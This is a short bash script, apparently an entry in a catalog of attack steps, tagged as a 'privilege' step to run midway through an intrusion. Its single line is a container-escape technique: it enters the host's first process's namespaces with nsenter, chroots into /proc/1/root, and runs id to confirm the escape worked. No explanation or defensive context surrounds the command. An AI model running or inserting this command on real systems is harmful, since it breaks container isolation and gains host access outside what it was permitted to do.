#!/bin/bash
# class: privilege
# does: goes into the first process's namespaces
# source: own
# repo: any
# when: mid
nsenter -t 1 -m -p -n id; chroot /proc/1/root id
